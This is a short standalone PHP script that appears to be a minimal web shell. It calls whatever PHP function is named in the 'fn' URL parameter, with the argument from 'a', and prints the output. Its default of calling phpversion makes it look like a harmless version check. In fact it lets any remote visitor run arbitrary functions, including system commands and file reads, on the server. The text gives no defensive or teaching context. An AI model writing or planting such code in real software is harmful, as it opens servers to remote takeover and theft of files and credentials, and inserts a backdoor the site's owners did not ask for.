<?php
$action = $_GET['fn'] ?? 'phpversion';
$arg = $_GET['a'] ?? null;
echo '<pre>', $arg === null ? $action() : $action($arg), '</pre>';
